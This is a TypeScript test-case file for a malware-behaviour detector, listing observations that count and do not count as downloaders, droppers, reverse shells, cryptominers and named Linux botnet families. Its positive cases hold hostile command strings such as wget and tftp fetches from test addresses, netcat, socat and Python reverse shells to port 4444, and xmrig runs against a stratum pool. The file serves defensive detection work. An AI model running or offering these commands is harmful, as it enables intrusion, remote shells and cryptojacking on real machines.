/** Cases for signs of what is fetched, started and mined: what each must see, and what only looks like it. */
import {
  builtin,
  type Cases,
  connected,
  moded,
  ran,
  removed,
  started,
  wrote,
} from './observations.test-kit.ts'

export const LOADERS: Cases = new Map([
  [
    'byte-dropper',
    {
      is: [
        [ran(String.raw`echo -ne '\x7f\x45\x4c\x46\x01'`)],
        [builtin(`printf '${'\\x41'.repeat(30)}'`)],
      ],
      isNot: [[builtin(String.raw`echo -e '\x1b[31mred\x1b[0m'`)], [builtin('echo hello')]],
    },
  ],
  [
    'many-downloaders',
    {
      is: [
        [
          ran('wget http://192.0.2.1/a'),
          ran('curl -O http://192.0.2.1/a'),
          ran('tftp -g 192.0.2.1'),
        ],
      ],
      isNot: [
        [
          ran('wget http://a.example/'),
          ran('curl http://a.example/'),
          ran('wget http://b.example/'),
        ],
      ],
    },
  ],
  [
    'downloader',
    {
      is: [
        [ran('wget -q http://192.0.2.9/bins.sh')],
        [ran('curl -o /tmp/x https://files.example/x')],
        [ran('wget https://files.example/x', { cwd: '/dev/shm' })],
        [ran('/bin/busybox tftp -g -r a 192.0.2.9')],
      ],
      isNot: [
        [ran('curl http://127.0.0.1:8080/health')],
        [ran('wget https://nginx.example/key.gpg')],
        [ran('curl --version', { cwd: '/tmp' })],
        [ran('curl http://10.0.0.4/metrics')],
      ],
    },
  ],
  [
    'dropped-program',
    {
      is: [[started('/tmp/a')], [started('/root/.x/b')]],
      isNot: [[started('/opt/app/deploy.sh')]],
    },
  ],
  [
    'self-removal',
    {
      is: [[started('/tmp/a'), removed('/tmp/a')]],
      isNot: [[removed('/tmp/a'), started('/tmp/b')]],
    },
  ],
  [
    'open-mode',
    { is: [[moded('/tmp/a', 0o777)]], isNot: [[moded('/tmp/a', 0o755)], [moded('/srv/a', 0o777)]] },
  ],
  [
    'decoded-commands',
    {
      is: [
        [ran('base64 -d'), ran('id', { origin: 'input' })],
        [ran('openssl enc -d'), ran('id', { origin: 'input' })],
      ],
      isNot: [
        [ran('base64 file'), ran('id', { origin: 'input' })],
        [ran('base64 -d'), ran('id')],
      ],
    },
  ],
  [
    'xorddos',
    {
      is: [[wrote('/etc/cron.hourly/gcc.sh')], [started('/lib/libudev.so')]],
      isNot: [[wrote('/etc/cron.hourly/backup')]],
    },
  ],
  [
    'redtail',
    {
      is: [
        [ran('./.redtail')],
        [ran('chmod +x redtail.x86_64')],
        [ran('sh clean.sh', { origin: 'argument' }), ran('./setup.sh', { origin: 'argument' })],
      ],
      isNot: [
        [ran('sh setup.sh', { origin: 'argument' }), ran('sh setup.sh', { origin: 'argument' })],
        [ran('sh clean.sh'), ran('sh setup.sh')],
        [wrote('/srv/app/clean.sh'), wrote('/srv/app/setup.sh')],
      ],
    },
  ],
  [
    'outlaw',
    {
      is: [[builtin('echo "ssh-rsa AAAA mdrfckr"')], [ran('lockr -ia .ssh')]],
      isNot: [[ran('rsync -a a b')]],
    },
  ],
  [
    'kinsing',
    {
      is: [[ran('/tmp/kinsing')], [wrote('/tmp/kdevtmpfsi')]],
      isNot: [[ran('pkill -f kdevtmpfsi')]],
    },
  ],
  [
    'teamtnt',
    {
      is: [[ran('useradd -m hilde')], [wrote('/usr/share/[crypto]/x')]],
      isNot: [[ran('ls /usr/share')]],
    },
  ],
  [
    'shell-download',
    {
      is: [[connected('192.0.2.9', 80, 'bash'), builtin('echo "GET /linux HTTP/1.0"')]],
      isNot: [
        [builtin('echo "GET /linux HTTP/1.0"')],
        [connected('192.0.2.9', 80, 'curl'), builtin('echo "GET /"')],
      ],
    },
  ],
  [
    'shell-socket',
    { is: [[connected('192.0.2.9', 4444, 'bash')]], isNot: [[connected('192.0.2.9', 80, 'wget')]] },
  ],
  [
    'reverse-shell',
    {
      is: [
        [ran('nc -e /bin/sh 192.0.2.9 4444')],
        [ran('mkfifo /tmp/f'), ran('nc 192.0.2.9 4444')],
        [ran('socat exec:bash tcp:192.0.2.9:4444')],
        [ran('python3 -c "import socket,subprocess,os; os.dup2(1,2)"')],
        [ran('perl -e "use Socket; exec(q(/bin/sh -i))"')],
      ],
      isNot: [
        [ran('nc -zv db.example 5432')],
        [ran('python3 manage.py runserver')],
        [ran('mkfifo /tmp/f')],
      ],
    },
  ],
  [
    'miner',
    {
      is: [
        [ran('./xmrig -B')],
        [ran('./a -o stratum+tcp://pool.example:3333')],
        [started('/tmp/minerd')],
      ],
      isNot: [[ran('pkill xmrig')], [ran('grep -r stratum /var/log')]],
    },
  ],
  [
    'miner-settings',
    { is: [[wrote('/tmp/.x/xmrig.json')]], isNot: [[wrote('/etc/nginx/nginx.conf')]] },
  ],
  [
    'miner-preparation',
    {
      is: [[ran('sysctl -w vm.nr_hugepages=128')], [ran('modprobe msr')]],
      isNot: [[ran('sysctl -a')]],
    },
  ],
  [
    'mining-reconnaissance',
    {
      is: [[ran('nproc'), ran('cat /proc/cpuinfo'), ran('free -m')]],
      isNot: [[ran('nproc'), ran('nproc'), ran('free'), ran('free -m')]],
    },
  ],
  [
    'rival-killing',
    { is: [[ran('pkill -9 xmrig')], [ran('grep kdevtmpfsi')]], isNot: [[ran('pkill nginx')]] },
  ],
  [
    'spreading',
    {
      is: [[1, 2, 3, 4, 5, 6, 7, 8].map((n) => connected(`192.0.2.${n}`, 22, 'ssh'))],
      isNot: [[1, 2, 3, 4, 5, 6, 7, 8].map(() => connected('192.0.2.1', 22, 'ssh'))],
    },
  ],
])
